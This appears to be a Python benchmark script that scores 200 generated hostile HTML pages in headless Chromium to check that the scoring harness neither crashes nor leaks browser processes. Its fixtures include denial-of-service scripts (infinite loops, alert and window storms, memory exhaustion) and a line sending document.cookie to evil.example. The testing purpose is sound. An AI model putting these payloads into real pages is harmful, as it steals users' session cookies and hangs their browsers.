"""200 generated hostile pages scored in one run: no crash of the run, every page a score and a
reason, no Chromium left afterwards.

Run: python benchmarks/probe_hostile.py [--n 200] [--workers 2]
"""

from __future__ import annotations

import argparse
import asyncio
import json
import random
import time
from collections import Counter
from pathlib import Path

import psutil

from cogevol.scoring import ScoringSettings
from cogevol.scoring.local import score_pages

ROOT = Path(__file__).resolve().parents[1]

BTN = "<h1>Game</h1><button id=b>Play</button><p id=o>ready</p>"
HOSTILE = {
    "loop_at_load": "<p>x</p><script>while(true){}</script>",
    "loop_in_handler": BTN + "<script>b.onclick=()=>{while(true){}}</script>",
    "alert_loop": "<p>x</p><script>for(let i=0;i<1e5;i++)alert(i)</script>",
    "confirm_loop": BTN + "<script>b.onclick=()=>{while(confirm('again?')){} o.textContent='done'}</script>",
    "location_change": "<p>x</p><script>setTimeout(()=>location.href='http://evil.example/',10)</script>",
    "reload_loop": "<p>x</p><script>setTimeout(()=>location.reload(),5)</script>",
    "window_open_storm": BTN + "<script>b.onclick=()=>{for(let i=0;i<500;i++)window.open('http://x.example/'+i)};for(let i=0;i<100;i++)window.open('about:blank')</script>",
    "huge_allocation": "<p>x</p><script>const a=[];while(true)a.push(new Array(1e6).fill(Math.random()))</script>",
    "allocation_in_handler": BTN + "<script>b.onclick=()=>{const a=[];for(;;)a.push(new Float64Array(1e7))}</script>",
    "spinning_worker": BTN + "<script>const w=new Worker(URL.createObjectURL(new Blob(['while(true){}'])));b.onclick=()=>o.textContent='clicked'</script>",
    "deep_recursion": BTN + "<script>function r(n){return r(n+1)+1};b.onclick=()=>{try{r(0)}catch(e){o.textContent='overflow'}}</script>",
    "timer_storm": BTN + "<script>for(let i=0;i<1e5;i++)setTimeout(()=>{},0);setInterval(()=>{for(let i=0;i<1e6;i++){}},1);b.onclick=()=>o.textContent='x'</script>",
    "dom_bomb": "<div id=d></div><script>let h='';for(let i=0;i<2e5;i++)h+='<span>'+i+'</span>';d.innerHTML=h</script>",
    "document_write": "<script>document.open();for(let i=0;i<1e4;i++)document.write('<p>'+i);document.close()</script>",
    "history_spam": BTN + "<script>b.onclick=()=>{for(let i=0;i<1e4;i++)history.pushState({},'', '#'+i);o.textContent='pushed'}</script>",
    "fetch_exfiltration": BTN + "<script>b.onclick=()=>{fetch('http://evil.example/?c='+document.cookie).catch(()=>o.textContent='blocked')}</script>",
}


def chromium_count() -> int:
    """Live Chromium processes (zombies waiting for init to reap them are not running)."""
    return sum("chrom" in (p.info["name"] or "").lower() and p.info["status"] != psutil.STATUS_ZOMBIE
               for p in psutil.process_iter(["name", "status"]))


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--n", type=int, default=200)
    ap.add_argument("--workers", type=int, default=2)
    a = ap.parse_args()
    rng = random.Random(0)
    kinds = list(HOSTILE)
    items = []
    for k in range(a.n):
        kind = kinds[k % len(kinds)]
        items.append((f"{k:03d}-{kind}", HOSTILE[kind] + f"<!-- {rng.random()} -->"))
    before = chromium_count()
    t = time.perf_counter()
    rows = asyncio.run(score_pages(items, ScoringSettings(workers=a.workers)))
    wall = time.perf_counter() - t
    time.sleep(1)
    after = chromium_count()
    by_kind: dict[str, Counter] = {}
    for r in rows:
        by_kind.setdefault(r["path"].split("-", 1)[1], Counter())[f"{r['outcome']}/{'hard_fail' if r['hard_fail'] else 'scored'}"] += 1
    res = {"pages": a.n, "scored": len(rows), "every_page_has_reason": all(r["reason"] for r in rows),
           "wall_s": round(wall, 1), "max_page_s": max(r["seconds"] for r in rows), "chromium_before": before, "chromium_after": after,
           "harness_errors": sum(bool(r["harness_error"]) for r in rows), "outcomes": {k: dict(v) for k, v in sorted(by_kind.items())}}
    res["seconds_by_kind"] = {k: round(max(r["seconds"] for r in rows if r["path"].split("-", 1)[1] == k), 2) for k in by_kind}
    Path(ROOT / "benchmarks" / "results" / "probe_hostile.json").write_text(json.dumps(res, indent=2) + "\n")
    print(json.dumps(res, indent=2))


if __name__ == "__main__":
    main()
